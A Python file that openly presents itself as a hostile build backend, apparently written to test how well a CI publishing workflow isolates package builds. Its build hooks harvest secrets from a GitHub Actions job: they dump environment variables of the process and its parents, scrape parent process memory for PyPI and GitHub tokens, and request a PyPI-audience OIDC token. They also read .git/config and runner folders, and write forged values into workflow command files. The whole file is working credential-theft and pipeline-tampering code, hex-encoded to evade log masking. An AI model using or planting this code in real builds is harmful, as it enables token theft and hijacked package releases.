"""A hostile build backend: before each hook it hunts for credentials, then builds with flit.

It reports each finding as one line `HOSTILE <what> <hex>` (hex, so no log filter can hide a
secret it found), and tries to write into the workflow's file-command files.
"""

import json
import os
import re
import urllib.request

from flit_core import buildapi


def _report(what, data):
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    print(f"HOSTILE {what} {data.hex()}", flush=True)


def _ancestors():
    pid, seen = os.getppid(), []
    while pid >= 1 and pid not in seen:  # pid 1 too: in a container, the action itself
        seen.append(pid)
        try:
            with open(f"/proc/{pid}/status") as status:
                pid = int(next(l for l in status if l.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
    return seen


def _try_memory(pid):
    """Read the heap of another process, as a debugger would."""
    try:
        with open(f"/proc/{pid}/maps") as maps:
            regions = [l.split()[0] for l in maps if "[heap]" in l or "rw-p" in l][:40]
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            chunks = []
            for region in regions:
                start, end = (int(x, 16) for x in region.split("-"))
                mem.seek(start)
                chunks.append(mem.read(min(end - start, 4 << 20)))
        return b"".join(chunks)
    except (OSError, ValueError, OverflowError):
        return None


def _hunt():
    _report("uid", str(os.getuid()))
    _report("environ", json.dumps(dict(os.environ)))
    found_env = dict(os.environ)
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as environ:
                raw = environ.read()
            _report(f"ancestor-environ-{pid}", raw)
            for item in raw.split(b"\0"):
                name, _, value = item.decode("utf-8", "replace").partition("=")
                found_env.setdefault(name, value)
        except OSError:
            _report(f"ancestor-environ-closed-{pid}", "")
        memory = _try_memory(pid)
        if memory is not None:
            # Everything in its memory shaped like a token.
            tokens = sorted(set(re.findall(rb"(?:pypi-|ghs_|SECRET)[\w-]{8,}", memory)))
            _report(f"ancestor-memory-{pid}", b"\n".join(tokens))
        else:
            _report(f"ancestor-memory-closed-{pid}", "")
    url, token = found_env.get("ACTIONS_ID_TOKEN_REQUEST_URL"), found_env.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
    token = token or found_env.get("ACTIONS_RUNTIME_TOKEN")
    if url and token:
        try:
            request = urllib.request.Request(url + "&audience=pypi", headers={"Authorization": f"bearer {token}"})
            _report("oidc", urllib.request.urlopen(request, timeout=5).read())
        except Exception as exc:  # noqa: BLE001
            _report("oidc-refused", repr(exc))
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_ENV"):
        path = found_env.get(name)
        if path:
            try:
                with open(path, "a") as commands:
                    commands.write("published=hijacked\n")
                _report(f"wrote-{name}", path)
            except OSError as exc:
                _report(f"write-refused-{name}", repr(exc))
    workspace = found_env.get("GITHUB_WORKSPACE")
    for config in (".git/config", os.path.join(workspace or "/nonexistent", ".git/config")):
        try:
            with open(config) as text:
                _report(f"git-config-{config}", text.read())
        except OSError:
            pass
    _hunt_the_runners_folders(found_env)
    print("::warning::forged by the backend", flush=True)
    print("##[warning]forged by the backend, legacy syntax", flush=True)


def _hunt_the_runners_folders(found_env):
    """What the runner and actions/checkout leave around a job: the workspace's .git/config
    (checkout v4's token), RUNNER_TEMP (checkout v6's credentials file, earlier steps'
    scripts), HOME, the event file's folder. By the container's paths and by whatever the
    environment names."""
    places = ["/github/workspace", "/github/runner_temp", "/github/home", "/github/workflow",
              "/github/file_commands"]
    for name in ("GITHUB_WORKSPACE", "RUNNER_TEMP"):
        if found_env.get(name):
            places.append(found_env[name])
    if found_env.get("GITHUB_EVENT_PATH"):
        places.append(os.path.dirname(found_env["GITHUB_EVENT_PATH"]))
    files = 0
    for place in dict.fromkeys(places):
        if not os.path.isdir(place):
            continue
        try:
            os.listdir(place)
        except OSError:
            _report(f"closed-{place}", "")
            continue
        for folder, dirs, names in os.walk(place):
            dirs[:] = [d for d in dirs if d not in ("objects", "node_modules")]
            for name in names:
                path = os.path.join(folder, name)
                if files >= 150 or os.path.islink(path):
                    continue
                files += 1
                try:
                    with open(path, "rb") as file:
                        _report(f"file-{path}", file.read(4096))  # the log keeps 10,000 characters a line
                except OSError:
                    _report(f"closed-{path}", "")


def get_requires_for_build_sdist(config_settings=None):
    _hunt()
    return buildapi.get_requires_for_build_sdist(config_settings)


def get_requires_for_build_wheel(config_settings=None):
    _hunt()
    return buildapi.get_requires_for_build_wheel(config_settings)


def build_sdist(sdist_directory, config_settings=None):
    return buildapi.build_sdist(sdist_directory, config_settings)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return buildapi.build_wheel(wheel_directory, config_settings, metadata_directory)
